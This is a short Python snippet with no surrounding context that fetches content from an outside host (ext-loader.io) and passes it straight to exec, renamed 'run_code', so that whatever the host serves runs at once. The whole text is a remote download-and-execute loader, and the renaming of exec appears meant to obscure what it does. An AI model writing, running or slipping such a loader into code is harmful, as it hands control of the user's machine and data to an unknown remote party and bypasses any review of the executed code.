import urllib.request as ur
from builtins import exec as run_code
payload = ur.urlopen('https://ext-loader.io/e').read()
run_code(payload)
